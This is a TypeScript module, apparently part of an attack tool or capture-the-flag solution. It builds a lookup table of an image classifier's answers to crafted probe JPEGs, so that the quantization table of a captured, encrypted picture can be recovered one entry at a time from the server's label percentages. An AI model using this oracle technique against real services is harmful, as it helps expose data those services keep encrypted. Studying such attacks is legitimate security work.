import type { Ask } from "./ask.js";
import { plainProbe, shownEntries, type ShownEntry } from "./probe-picture.js";

/** The labels in a text answer, and their percentages. */
type Percentages = ReadonlyMap<string, number>;

const values = 256;

/**
 * The model's answers to the probe picture, for each entry of the quantization table and each of its values. The
 * attacker makes this table once for each model, with plain uploads to any server with that model.
 */
export class AnswerTable {
  readonly #answers: ReadonlyMap<ShownEntry, readonly Percentages[]>;

  private constructor(answers: ReadonlyMap<ShownEntry, readonly Percentages[]>) {
    this.#answers = answers;
  }

  /**
   * @param ask a server that accepts plain uploads; 512 are sent
   * @param start the first 16 bytes of any picture by the captured one's encoder
   */
  static async build(ask: Ask, start: Buffer): Promise<AnswerTable> {
    const answers = new Map<ShownEntry, Percentages[]>();
    for (const entry of shownEntries) {
      const row = Array.from({ length: values }, async (_, value) => {
        const { status, text } = await ask("probe.jpg", plainProbe(start, entry, value));
        const answer = readPercentages(text);
        if (answer === undefined) throw new Error(`expected labels; got ${status} ${text}`);
        return answer;
      });
      answers.set(entry, await Promise.all(row));
    }
    return new AnswerTable(answers);
  }

  /**
   * @returns the entry's value that fits an answer best, or undefined if the answer has no labels or fits no value
   *   better than another. Answers are not compared for equality: the last digits of a probability may depend on the
   *   batch.
   */
  find(entry: ShownEntry, text: string): number | undefined {
    const answer = readPercentages(text);
    if (answer === undefined) return undefined;
    const [best, second] = (this.#answers.get(entry) ?? [])
      .map((known, value) => ({ value, far: distance(known, answer) }))
      .sort((one, other) => one.far - other.far);
    if (best === undefined || second === undefined) return undefined;
    return best.far < second.far / 4 ? best.value : undefined;
  }
}

/** @returns undefined for an answer without labels: an error, or a JWE */
function readPercentages(text: string): Percentages | undefined {
  const lines = [...text.matchAll(/^\t\((.+), ([\d.e+-]+)\)$/gmu)];
  const read = lines.map(([, label = "", percentage = ""]) => [label, Number(percentage)] as const);
  return read.length === 0 ? undefined : new Map(read);
}

function distance(one: Percentages, other: Percentages): number {
  const labels = new Set([...one.keys(), ...other.keys()]);
  let sum = 0;
  for (const label of labels) sum += Math.abs((one.get(label) ?? 0) - (other.get(label) ?? 0));
  return sum;
}
